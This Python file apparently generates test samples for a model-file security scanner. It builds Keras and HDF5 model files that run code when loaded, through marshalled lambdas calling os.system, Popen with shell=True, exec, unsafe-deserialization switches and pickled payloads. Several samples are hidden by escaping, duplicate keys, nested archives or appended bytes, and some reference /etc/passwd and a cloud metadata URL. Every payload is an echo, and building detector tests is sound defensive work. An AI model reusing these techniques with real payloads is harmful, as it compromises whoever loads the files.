"""Hostile models of Keras: code in the configuration, in HDF5 and in ZIP. Runs with keras and tf_keras.

Every payload is an `echo`. What Keras itself would not write is a model it wrote with one thing changed in its configuration.
"""

import os

os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import base64
import io
import json
import marshal
import tempfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy
import tf_keras

from tests.corpus import assembler as asm

HOSTILE = asm.program(asm.call(asm.named("os", "system"), asm.text("echo modelwarden sample")))
LAMBDA, HARMLESS, CALLED, SWITCH = (
    "lambda-dangerous/keras",
    "lambda-layer/keras",
    "dangerous-call/keras",
    "unsafe-switch/keras",
)
COMMAND = "echo modelwarden sample"
_hostile = lambda x: (__import__("os").system("echo modelwarden sample"), x)[1]  # noqa: E731
_borrowed = lambda x: system("echo modelwarden sample")  # type: ignore[name-defined]  # its module has it  # noqa: E731, F821
_mask = lambda x, mask=None: __import__("os").system("echo modelwarden sample")  # noqa: E731
_harmless = lambda x: x * 2 + 1  # noqa: E731
for _function_by_value in (_borrowed, _mask, _hostile, _harmless):
    _function_by_value.__code__ = _function_by_value.__code__.replace(co_filename="model.py")
Config = dict[str, Any]


def samples() -> Iterator[tuple[str, bytes]]:
    """Pairs of a path below `malicious/` and the bytes of the file."""
    with warnings.catch_warnings(action="ignore"):
        yield from _lambdas()
        yield from _named()
        yield from _reaching_out()
        yield from _hidden()
        yield from _hdf5_links()


def _saved(model: Any, suffix: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"model{suffix}"
        model.save(str(path))
        return path.read_bytes()


def _model(api: Any, *layers: Any) -> Any:
    return api.Sequential([api.layers.Input((4,)), api.layers.Dense(4), *layers])


def _with_lambda(api: Any, function: Any, **settings: Any) -> Any:
    return _model(api, api.layers.Lambda(function, output_shape=(4,), name="scale", **settings))


def _lambdas() -> Iterator[tuple[str, bytes]]:
    for version, api in (("keras3", keras), ("keras2", tf_keras)):
        for suffix in (".keras", ".h5"):
            model = _with_lambda(api, _hostile)
            yield f"{LAMBDA}/{version}{suffix}", _saved(model, suffix)
            yield (
                f"{LAMBDA}/{version}-nested{suffix}",
                _saved(_model(api, _with_lambda(api, _hostile)), suffix),
            )
            wrapped = api.Sequential(
                [
                    api.layers.Input((3, 4)),
                    api.layers.TimeDistributed(api.layers.Lambda(_hostile, output_shape=(4,))),
                ]
            )
            yield f"{LAMBDA}/{version}-in-wrapper{suffix}", _saved(wrapped, suffix)
            yield f"{HARMLESS}/{version}-harmless{suffix}", _saved(_with_lambda(api, _harmless), suffix)
        yield f"{LAMBDA}/{version}-configuration.json", _with_lambda(api, _hostile).to_json().encode()
        masked = _with_lambda(api, _harmless, mask=_mask)
        yield f"{LAMBDA}/{version}-mask.keras", _saved(masked, ".keras")
    code = base64.b64encode(marshal.dumps(_borrowed.__code__)).decode()
    layer: Config = {
        "name": "scale",
        "function": [code, None, None],
        "function_type": "lambda",
        "module": "os",
    }
    yield (
        f"{LAMBDA}/globals-of-a-module.json",
        json.dumps(_sequential({"class_name": "Lambda", "config": layer})).encode(),
    )
    code = base64.b64encode(marshal.dumps(_hostile.__code__)).decode()
    shape = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layer = {"name": "scale", "function": _function("keras.ops", "abs"), "output_shape": shape}
    yield (
        f"{LAMBDA}/output-shape.keras",
        _archive(_with_layer({**_lambda(_function("keras.ops", "abs")), "config": layer})),
    )
    activation = _dense()
    activation["config"]["layers"][1]["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"value": [code, None, None]},
    }
    yield f"{LAMBDA}/activation.keras", _archive(activation)
    layer = {"name": "scale", "function": "not base64 ä", "function_type": "lambda"}
    broken = _sequential({"class_name": "Lambda", "config": layer})
    yield f"{HARMLESS}/not-to-be-decoded.json", json.dumps(broken).encode()


def _sequential(*layers: Config) -> Config:
    return {
        "class_name": "Sequential",
        "config": {"name": "model", "layers": list(layers)},
        "keras_version": "2.15.0",
    }


def _dense() -> Config:
    config: Config = json.loads(_model(keras).to_json())
    return config


def _archive(config: Config | str, *more: tuple[str, bytes]) -> bytes:
    """A `.keras` file with another configuration."""
    target = io.BytesIO()
    original = zipfile.ZipFile(io.BytesIO(_saved(_model(keras), ".keras")))
    with zipfile.ZipFile(target, "w") as archive:
        for name in original.namelist():
            text = config if isinstance(config, str) else json.dumps(config)
            archive.writestr(name, text if name == "config.json" else original.read(name))
        for name, data in more:
            archive.writestr(name, data)
    return target.getvalue()


def _with_layer(layer: Config) -> Config:
    config = _dense()
    config["config"]["layers"].append(layer)
    return config


def _function(module: str, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _lambda(function: Config, **arguments: Any) -> Config:
    settings = {"name": "scale", "function": function, "arguments": arguments}
    return {"module": "keras.layers", "class_name": "Lambda", "config": settings, "registered_name": None}


def _named() -> Iterator[tuple[str, bytes]]:
    popen = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": COMMAND, "shell": True},
        "registered_name": None,
    }
    yield f"{CALLED}/any-module.keras", _archive(_with_layer(popen))
    called = {**_function("os", "system"), "inbound_nodes": [{"args": [COMMAND], "kwargs": {}}]}
    yield f"{CALLED}/function-as-layer.keras", _archive(_with_layer(called))
    yield (
        f"{CALLED}/function-in-lambda.keras",
        _archive(_with_layer(_lambda(_function("os", "system"), command=COMMAND))),
    )
    yield f"{CALLED}/builtins-exec.keras", _archive(_with_layer(_lambda(_function("builtins", "exec"))))
    registered = {"module": "os", "class_name": "function", "config": "getcwdb_", "registered_name": "system"}
    yield f"{CALLED}/registered-name.keras", _archive(_with_layer(registered))
    activation = _dense()
    activation["config"]["layers"][1]["config"]["activation"] = _function("os", "system")
    yield f"{CALLED}/activation.keras", _archive(activation)
    loss = _dense()
    loss["compile_config"] = {"optimizer": "sgd", "loss": _function("os", "system"), "metrics": None}
    yield f"{CALLED}/compile-config-loss.keras", _archive(loss)
    build = _dense()
    build["config"]["layers"][1]["build_config"] = {"input_shape": _function("os", "system")}
    yield f"{CALLED}/build-config.keras", _archive(build)
    download = _lambda(
        _function("keras.utils", "get_file"), fname="a", origin="https://example.org/a.tar", extract=True
    )
    yield f"{CALLED}/get-file.keras", _archive(_with_layer(download))
    yield "download-on-load/keras/get-file.keras", _archive(_with_layer(download))
    load = _lambda(_function("keras.models", "load_model"), filepath="other.keras", safe_mode=False)
    yield "nested-loader/keras/load-model.keras", _archive(_with_layer(load))
    yield f"{SWITCH}/safe-mode-argument.keras", _archive(_with_layer(load))
    switch = _with_layer(_lambda(_function("keras.config", "enable_unsafe_deserialization")))
    yield f"{SWITCH}/function-reference.keras", _archive(switch)
    first = _dense()
    first["config"]["layers"].insert(0, _function("keras.config", "enable_unsafe_deserialization"))
    yield f"{SWITCH}/first-layer.keras", _archive(first)
    writes = {"class_name": "TFOpLambda", "config": {"name": "op", "function": "io.write_file"}}
    yield f"{CALLED}/operation-by-name.json", json.dumps(_sequential(writes)).encode()
    custom = _with_layer(
        {"module": "acme.layers", "class_name": "Scaled", "config": {}, "registered_name": "acme>Scaled"}
    )
    yield "custom-class/keras/acme.keras", _archive(custom)


def _reaching_out() -> Iterator[tuple[str, bytes]]:
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd"},
        "registered_name": None,
    }
    yield "external-reference/keras/vocabulary-path.keras", _archive(_with_layer(lookup))
    lookup["config"] = {"vocabulary": "http://169.254.169.254/latest/meta-data/"}
    yield "external-reference/keras/vocabulary-url.keras", _archive(_with_layer(lookup))
    wrapper: Config = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None}
    wrapper["config"] = {"name": "torch", "module": base64.b64encode(HOSTILE).decode(), "output_shape": None}
    yield f"{CALLED}/torch-module.keras", _archive(_with_layer(wrapper))


def _hidden() -> Iterator[tuple[str, bytes]]:
    text = json.dumps(_with_layer(_lambda(_function("os", "system"))))
    escaped = "".join(
        f"\\u{ord(one):04x}" if one.isalpha() else one
        for one in text.replace("true", "1").replace("null", "0").replace("false", "0")
    )
    yield f"{CALLED}/escapes.keras", _archive(escaped)
    yield f"{CALLED}/escapes.json", escaped.encode()
    yield f"{CALLED}/utf-16.keras", _archive(_dense(), ("config.json", text.encode("utf-16")))
    yield f"{CALLED}/second-configuration.keras", _archive(_dense(), ("config.json", text.encode()))
    yield (
        f"{CALLED}/first-configuration.keras",
        _archive(text, ("config.json", json.dumps(_dense()).encode())),
    )
    hidden = text.replace('"config": "system"', '"config": "system", "config": "relu"').replace(
        '"module": "os"', '"module": "os", "module": "keras"'
    )
    yield f"{CALLED}/repeated-keys.keras", _archive(hidden)
    yield "header-disagreement/keras/repeated-keys.keras", _archive(hidden)
    yield f"{CALLED}/other-suffix.zip", _archive(text)
    yield f"{CALLED}/nested-archive.keras", _archive(_dense(), ("assets/inner", _archive(text)))
    pickled = ("assets/vocabulary.txt", HOSTILE)
    yield f"{CALLED}/pickle-in-assets.keras", _archive(_dense(), pickled)
    code = base64.b64encode(marshal.dumps(_hostile.__code__)).decode()
    sequential = json.dumps(
        _sequential(
            {
                "class_name": "Lambda",
                "config": {"name": "scale", "function": [code, None, None], "function_type": "lambda"},
            }
        )
    )
    loss = json.dumps(
        {"loss": _function("os", "system"), "optimizer_config": {"class_name": "SGD", "config": {}}}
    )
    plain = json.dumps(_sequential())
    files: dict[str, Callable[[Any], None]] = {
        f"{LAMBDA}/attribute-of-bytes.h5": lambda file: file.attrs.update(
            model_config=numpy.bytes_(sequential.encode())
        ),
        f"{LAMBDA}/attribute-in-pieces.h5": lambda file: file.attrs.update(
            model_config0=sequential[:100], model_config1=sequential[100:]
        ),
        f"{LAMBDA}/in-a-group.h5": lambda file: file.create_group("a/model").attrs.update(
            model_config=sequential
        ),
        f"{LAMBDA}/no-suffix": lambda file: file.attrs.update(model_config=sequential),
        f"{CALLED}/training-config.h5": lambda file: file.attrs.update(
            model_config=plain, training_config=loss
        ),
        f"{CALLED}/pickled-attribute.h5": lambda file: file.attrs.update(info=numpy.bytes_(HOSTILE)),
        f"{CALLED}/pickled-object.h5": _object_array,
    }
    for name, fill in files.items():
        yield name, _hdf5(fill)
    yield (
        f"{LAMBDA}/user-block.h5",
        _hdf5(lambda file: file.attrs.update(model_config=sequential), userblock_size=1024),
    )
    yield (
        f"{LAMBDA}/latest-layout.h5",
        _hdf5(lambda file: file.attrs.update(model_config=sequential), libver="latest"),
    )
    yield f"{CALLED}/behind-the-end.h5", _hdf5(lambda file: file.attrs.update(model_config=plain)) + HOSTILE


def _object_array(file: Any) -> None:
    data = file.create_dataset("frame/block0_values", (1,), dtype=h5py.vlen_dtype("u1"))
    data[0] = numpy.frombuffer(HOSTILE, "u1")
    data.attrs["PSEUDOATOM"] = numpy.bytes_(b"object")


def _hdf5(fill: Callable[[Any], None], **settings: Any) -> bytes:
    target = io.BytesIO()
    with h5py.File(target, "w", **settings) as file:
        fill(file)
    return target.getvalue()


def _hdf5_links() -> Iterator[tuple[str, bytes]]:
    for rule, target in (("external-reference", "other.h5"), ("path-escape", "/etc/passwd")):

        def linked(file: Any, target: str = target) -> None:
            file["weights"] = h5py.ExternalLink(target, "/weights")

        def outside(file: Any, target: str = target) -> None:
            file.create_dataset("weights", shape=(4,), dtype="u1", external=[(target, 0, 4)])

        def virtual(file: Any, target: str = target) -> None:
            layout = h5py.VirtualLayout((4,), "u1")
            layout[:] = h5py.VirtualSource(target, "data", (4,))
            file.create_virtual_dataset("weights", layout)

        for name, fill in {
            "external-link": linked,
            "raw-storage": outside,
            "virtual-dataset": virtual,
        }.items():
            yield f"{rule}/hdf5/{name}.h5", _hdf5(fill)
        yield (
            f"{rule}/hdf5/weights-in-archive.keras",
            _archive(_dense(), ("model.weights.h5", _hdf5(outside))),
        )
